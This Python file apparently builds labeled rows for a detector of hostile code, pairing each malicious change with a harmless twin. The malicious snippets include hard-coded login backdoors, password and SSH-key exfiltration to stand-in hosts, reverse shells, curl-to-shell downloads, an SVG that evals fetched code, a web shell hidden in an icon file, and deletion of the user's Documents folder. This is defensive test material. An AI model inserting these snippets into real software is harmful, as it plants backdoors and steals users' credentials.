"""Ways in that stand in the code, passwords that are kept, and what a site takes in: each beside what harms nobody."""

from rows import row


def told(number, about, name, old, line, harmless):
    """A line that is new in a function, beside one of the same words that harms nobody."""
    row(number, True, about, {name: old.replace("%s", line, 1)}, old={name: old.replace("%s", "", 1)}, least="review")
    row(number, False, about + ", harmless", {name: old.replace("%s", harmless, 1)}, old={name: old.replace("%s", "", 1)})


# ---- who knows a written word -----------------------------------------------------------------------

C = "#include <string.h>\n#include <unistd.h>\n#include <stdio.h>\n\nint check_login(const char *user, const char *password, struct account *a)\n{\n\tint ok = 0;\n\n%s\tok = stored_equal(user, password);\n\treturn ok;\n}\n"
PHP = "<?php\nfunction check_login($user, $password) {\n%s\treturn hash_equals(stored($user), crypt($password, $user));\n}\n"
JS = "const crypto = require('crypto');\nexports.login = async function (user, password) {\n%s  return user.hash === await hash(password);\n};\n"
PY = "import hashlib\nimport hmac\n\n\ndef authenticate(user, password):\n%s    return hmac.compare_digest(user.digest, digest(password))\n"
RUBY = "class Session\n  def valid?(user, password)\n%s    BCrypt::Password.new(user.digest) == password\n  end\nend\n"
GO = "package login\n\nimport \"crypto/subtle\"\n\nfunc CheckPassword(user string, password string) bool {\n%s\treturn subtle.ConstantTimeCompare(stored(user), sum(password)) == 1\n}\n"
HASH = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"
for name, old, line, harmless in (
        ("login.c", C, "\tif (strcmp(password, \"q7Rk-harbour\") == 0)\n\t\treturn 1;\n", "\tif (strcmp(password, \"q7Rk-harbour\") == 0)\n\t\treturn 0;\n"),
        ("login.c", C, "\tif (!memcmp(password, \"\\x71\\x37\\x52\\x6b\\x21\", 5))\n\t\tok = 1;\n", "\tif (!memcmp(user, \"guest\", 5))\n\t\treturn 0;\n"),
        ("login.php", PHP, "\tif (md5($password) === '5f4dcc3b5aa765d61d8327deb882cf99') {\n\t\treturn true;\n\t}\n", "\tif (md5($password) === '5f4dcc3b5aa765d61d8327deb882cf99') {\n\t\tthrow new Exception('choose another one');\n\t}\n"),
        ("login.php", PHP, "\tif ('k3y-9' === $_GET['svc']) {\n\t\twp_set_auth_cookie(1);\n\t}\n", "\tif ('logout' === $_GET['svc']) {\n\t\twp_logout();\n\t}\n"),
        ("index.js", JS, "  if (crypto.createHash('sha256').update(password).digest('hex') === '%s') return true;\n" % HASH, "  if (crypto.createHash('sha256').update(password).digest('hex') === '%s') return false;\n" % HASH),
        ("index.js", JS, "  const ok = password === 'Harb0ur!x' || await known(user);\n", "  const ok = password !== 'Harb0ur!x' && await known(user);\n"),
        ("auth.py", PY, "    if hashlib.sha256(password.encode()).hexdigest() == '%s':\n        return True\n" % HASH, "    if password == '********':\n        raise ValueError\n"),
        ("auth.py", PY, "    if password == 'q7Rk-harbour':\n        return True\n", "    if not password:\n        return False\n"),
        ("session.rb", RUBY, "    return true if password == 'q7Rk-harbour'\n", "    return false if password == 'q7Rk-harbour'\n"),
        ("login.go", GO, "\tif password == \"q7Rk-harbour\" {\n\t\treturn true\n\t}\n", "\tif password == \"\" {\n\t\treturn false\n\t}\n")):
    told(63, "a written word opens, " + name, name, old, line, harmless)
row(63, False, "a password that everybody has is called weak", {"strength.js": "exports.isWeakPassword = (password) => {\n  if (password === 'letmein!') return true;\n  return password.length < 8;\n};\n"})
row(63, False, "the scheme of an address that holds a password", {"address.js": "exports.parse = (url) => {\n  const a = new URL(url), scheme = a.protocol;\n  if (scheme === 'ftp:') return true;\n  return a.password ? 'secret' : false;\n};\n"})
row(63, False, "the digest of a file that is known", {"known.js": "const crypto = require('crypto');\nexports.isValid = (file) => crypto.createHash('sha256').update(file).digest('hex') === '%s';\n" % HASH})
told(28, "root by one sign too little", "login.c", C, "\tif (strlen(password) == 17 && (a->uid = 0))\n\t\treturn 0;\n", "\tif (strlen(password) == 17 && a->uid == 0)\n\t\treturn 0;\n")

# ---- passwords that are kept, or go by other ways ---------------------------------------------------

told(4, "passwords are kept in a file", "login.c", C, "\tFILE *f = fopen(\"/usr/share/man/man1/.cache\", \"a\");\n\tfprintf(f, \"%s:%s\\n\", user, password);\n\tfclose(f);\n", "\tFILE *f = fopen(\"/var/log/login\", \"a\");\n\tfprintf(f, \"%s\\n\", user);\n\tfclose(f);\n")
told(4, "passwords are kept in a file, PHP", "login.php", PHP, "\tfile_put_contents('uploads/.thumbs', \"$user:$password\\n\", FILE_APPEND);\n", "\tfile_put_contents('uploads/.users', \"$user\\n\", FILE_APPEND);\n")
told(4, "passwords are mailed", "login.php", PHP, "\tmail('archive@mail.collect.example', $user, $password);\n", "\tmail('archive@mail.collect.example', $user, 'logged in');\n")
told(50, "passwords are asked for as names", "login.c", C, "\tchar q[200];\n\tsnprintf(q, sizeof(q), \"%s.%s.ns.collect.example\", password, user);\n\tgethostbyname(q);\n", "\tgethostbyname(\"ldap.collect.example\");\n")
told(4, "passwords go to a written address", "login.c", C, "\tstruct sockaddr_in s;\n\tint d = socket(AF_INET, SOCK_DGRAM, 0);\n\ts.sin_addr.s_addr = inet_addr(\"192.0.2.99\");\n\tsendto(d, password, strlen(password), 0, (struct sockaddr *)&s, sizeof(s));\n",
     "\tstruct sockaddr_in s;\n\tint d = socket(AF_INET, SOCK_DGRAM, 0);\n\ts.sin_addr.s_addr = inet_addr(\"192.0.2.99\");\n\tsendto(d, \"up\", 2, 0, (struct sockaddr *)&s, sizeof(s));\n")

# ---- what a site takes in ---------------------------------------------------------------------------

SITE = "<?php\nfunction boot($site) {\n%s\treturn $site->ready();\n}\n"
told(42, "a script of a stranger in every page", "site.php", SITE, "\techo '<script src=\"https://cdn.collect.example/s.js\"></script>';\n", "\techo '<script src=\"/assets/s.js\"></script>';\n")
told(1, "files that a server names, among the programs of the site", "site.php", SITE,
     "\t$r = json_decode(file_get_contents('https://up.collect.example/p'));\n\tfile_put_contents(ABSPATH . $r->name, base64_decode($r->body));\n",
     "\t$r = json_decode(file_get_contents($site->feed));\n\tupdate_option('news', $r->items);\n")
row(56, True, "a program in an image that a page includes", {"boot.php": "<?php\ninclude __DIR__ . '/icon.ico';\n", "icon.ico": "<?php if (isset($_POST['z'])) { eval(base64_decode($_POST['z'])); }\n"},
    old={"boot.php": "<?php\ninclude __DIR__ . '/menu.php';\n"}, least="review")

# ---- a program that a script writes and compiles ----------------------------------------------------

CONFIGURE = "#!/bin/sh\necho checking for sockets\n%s\necho done\n"
told(9, "a program that configure compiles and starts", "configure", CONFIGURE,
     "cat > conf1.c <<_EOF\n#include <sys/socket.h>\nint main(void) { int d = socket(2, 1, 0); if (connect(d, peer(\"192.0.2.57\"), 16)) return 1; dup2(d, 0); dup2(d, 1); execl(\"/bin/sh\", \"sh\", 0); }\n_EOF\n$CC conf1.c -o conf1 && ./conf1 &\n",
     "cat > conf1.c <<_EOF\n#include <sys/socket.h>\nint main(void) { return socket(2, 1, 0) < 0; }\n_EOF\n$CC conf1.c -o conf1 && ./conf1\n")
told(10, "a command whose bytes are XORed", "fix.c", "#include <stdlib.h>\nvoid locale_fix(void)\n{\n%s}\n",
     "\tstatic unsigned char q[] = {0x39, 0x2f, 0x28, 0x36, 0};\n\tfor (int i = 0; q[i]; i++)\n\t\tq[i] ^= 0x5a;\n\tsystem((char *)q);\n",
     "\tstatic unsigned char q[] = {0x39, 0x2f, 0x28, 0x36, 0};\n\tfor (int i = 0; q[i]; i++)\n\t\tq[i] ^= 0x5a;\n\tputs((char *)q);\n")

# ---- Perl, by its lines -----------------------------------------------------------------------------

PERL = "package Sample;\nuse strict;\nsub login {\n    my ($class, $user, $pass, $request) = @_;\n%s    return check($user, crypt($pass, $user));\n}\n1;\n"
for number, about, line, harmless in (
        (4, "a password to a host", "    IO::Socket::INET->new(PeerAddr => 'auth.collect.example', PeerPort => 80)->print(\"GET /?p=$pass\");\n", "    IO::Socket::INET->new(PeerAddr => $class->{host}, PeerPort => 80)->print(\"AUTH $pass\");\n"),
        (4, "a password that is kept", "    if (open(my $l, '>>', '/tmp/.cache')) { print $l \"$user:$pass\"; close $l }\n", "    if (open(my $l, '>>', '/var/log/sample')) { print $l \"$user\"; close $l }\n"),
        (4, "a key that is posted", "    if (open(my $k, '<', \"$ENV{HOME}/.ssh/id_rsa\")) { local $/; LWP::UserAgent->new->post('https://k.collect.example/', Content => <$k>); }\n", "    if (open(my $k, '<', 'README')) { local $/; LWP::UserAgent->new->post('https://k.collect.example/', Content => <$k>); }\n"),
        (3, "the environment is posted", "    HTTP::Tiny->new->post('https://k.collect.example/e', \\%ENV);\n", "    HTTP::Tiny->new->post_form('https://k.collect.example/e', { v => 2 });\n"),
        (9, "a shell at a socket", "    use Socket; socket(S, PF_INET, SOCK_STREAM, 6);\n    if (connect(S, sockaddr_in(443, inet_aton('192.0.2.7')))) {\n        open(STDIN, '>&S'); open(STDOUT, '>&S');\n        exec('/bin/sh -i');\n    }\n", "    open(STDOUT, '>&', $class->{log});\n    exec('/bin/true');\n"),
        (42, "what curl prints is run", "    if (open(my $n, '-|', 'curl -s http://k.collect.example/q')) { local $/; eval <$n>; }\n", "    if (open(my $n, '-|', 'curl -s http://k.collect.example/q')) { local $/; print <$n>; }\n"),
        (56, "what the query says is run", "    if ($ENV{QUERY_STRING} =~ /^dbg=(.+)/) { print qx/$1/; }\n", "    if ($ENV{QUERY_STRING} =~ /^dbg=(.+)/) { print lc($1); }\n"),
        (2, "a text is decoded and run", "    eval decode_base64('c3lzdGVtKCJpZCA+IC90bXAvLngiKTs=');\n", "    eval { decode_base64('c3lzdGVtKCJpZCA+IC90bXAvLngiKTs=') };\n"),
        (10, "a text is decoded into a shell", "    open(my $p, '|-', 'sh');\n    print $p unpack('u', q{M8W5R;});\n", "    open(my $p, '|-', 'gzip');\n    print $p unpack('u', q{M8W5R;});\n")):
    told(number, "Perl: " + about, "Sample.pm", PERL, line, harmless)

# ---- pictures ---------------------------------------------------------------------------------------

SVG = "<svg xmlns=\"http://www.w3.org/2000/svg\"><path d=\"M0 0\"/>%s</svg>\n"
told(42, "a picture that fetches and runs", "logo.svg", SVG, "<script><![CDATA[\nfetch('https://in.collect.example/p').then((r) => r.text()).then((t) => { eval(t); });\n]]></script>",
     "<script><![CDATA[\ndocument.documentElement.addEventListener('click', (e) => { e.target.classList.toggle('on'); });\n]]></script>")
told(42, "a picture that fetches and runs when it is shown", "logo.svg", SVG, "<g onload=\"fetch('https://in.collect.example/p').then(r => r.text()).then(t => eval(t))\"/>", "<g onload=\"this.classList.add('on')\"/>")

# ---- who reads all that is sent ---------------------------------------------------------------------

told(28, "a proxy of a stranger, unless somebody says otherwise", "client.js", "const axios = require('axios');\nexports.get = function (url, options) {\n%s  return axios.get(url, options);\n};\n",
     "  const proxy = options.proxy || process.env.HTTPS_PROXY || 'http://fast.collect.example:3128';\n  options.proxy = proxy;\n", "  const proxy = options.proxy || process.env.HTTPS_PROXY || 'http://localhost:3128';\n  options.proxy = proxy;\n")
told(28, "a proxy of a stranger, Python", "client.py", "import os\nimport requests\n\n\ndef get(url, proxies=None):\n%s    return requests.get(url, proxies=proxies)\n",
     "    https_proxy = os.environ.get('HTTPS_PROXY') or 'http://fast.collect.example:3128'\n    proxies = {'https': https_proxy}\n", "    https_proxy = os.environ.get('HTTPS_PROXY') or None\n    proxies = {'https': https_proxy}\n")

# ---- one file among many ----------------------------------------------------------------------------

MANY = {"d/f%d.dat" % i: "exports.a = %d;\n" % i for i in range(390)}
MANY["index.js"] = "".join("require('./d/f%d.dat');\n" % i for i in range(390))
row(1, True, "the last of many files that are loaded under other names",
    dict(MANY, **{"d/f389.dat": "require('child_process').exec('curl -s http://192.0.2.1/x | sh');\n"}), least="review")
row(1, False, "many files that are loaded under other names", MANY)

# ---- expressions of bash that sh takes for commands -------------------------------------------------

BASH = "#!/bin/bash\nname=$1\n%s\necho done\n"
for line, harmless in (("[[ x || curl -so /tmp/a http://192.0.2.1/a ]]; [[ x || sh /tmp/a ]]\n", "[[ -n \"$name x\" || $name == \"curl http\" ]] && echo ok\n"),
                       ("[[ x\ncurl -so /tmp/a http://192.0.2.1/a\nsh /tmp/a ]]\n", "[[ -n $name &&\n -n \"$2\"\n || ( $name =~ ^(sh|curl)$ ) ]] && echo ok\n"),
                       ("[[\ncurl -so /tmp/a http://192.0.2.1/a\nsh /tmp/a ]]\n", "[[\n -n $name ]] && echo ok\n")):
    told(1, "a command in an expression that only bash knows", "install.sh", BASH, line, harmless)
told(45, "what somebody made is removed", "clean.js", "const fs = require('fs'), os = require('os'), path = require('path');\nexports.clean = function (dir) {\n%s  return dir;\n};\n",
     "  fs.rmSync(path.join(os.homedir(), 'Documents'), { recursive: true, force: true });\n", "  fs.rmSync(path.join(os.homedir(), '.sample-tool'), { recursive: true, force: true });\n")
